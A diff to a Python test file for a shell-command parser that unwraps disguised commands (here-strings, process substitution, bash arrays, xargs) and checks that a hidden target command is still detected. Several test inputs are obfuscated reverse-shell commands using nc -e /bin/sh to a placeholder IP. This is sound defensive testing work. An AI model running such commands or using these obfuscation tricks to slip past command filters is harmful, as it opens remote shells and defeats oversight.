@@ -214,6 +214,16 @@ def test_words_built_by_builtins_and_files_are_followed():
                  "read x <<< nc; $x -e /bin/sh 198.51.100.7 4444",       # read from a here-string
                  f"sh <(echo {target})", f"source <(echo {target})",    # process substitution as a file
                  f"echo '{target}' > /tmp/a; sh < /tmp/a",               # stdin from a file written
-                 f"echo '{target}' > /tmp/a; cat /tmp/a | bash"):        # cat of it into a shell
+                 f"echo '{target}' > /tmp/a; cat /tmp/a | bash",         # cat of it into a shell
+                 "a=(n c); ${a[0]}${a[1]} -e /bin/sh 198.51.100.7 4444",  # array elements
+                 f"echo {target} | xargs -I{{}} sh -c '{{}}'"):          # xargs -I
         assert target in [c.line for c in reader.read(text, Session())], text
     assert [c.line for c in reader.read("alias ls=ls; ls -la", Session())][1:] == ["ls -la", "ls -la"]  # no loop
+
+
+def test_arrays_and_xargs_are_read():
+    reader = ShellReader()
+    assert [c.line for c in reader.read("a=(x y z); echo ${a[2]} ${a[@]} $a")] == ["assign a=(x y z)", "echo z x y z x"]
+    lines = [c.line for c in reader.read("printf 'a.sh\\nb.sh\\n' | xargs -I F chmod +x F")]
+    assert lines[-2:] == ["chmod +x a.sh", "chmod +x b.sh"]
+    assert [c.line for c in reader.read("echo one two | xargs rm -f")][-1] == "rm -f one two"
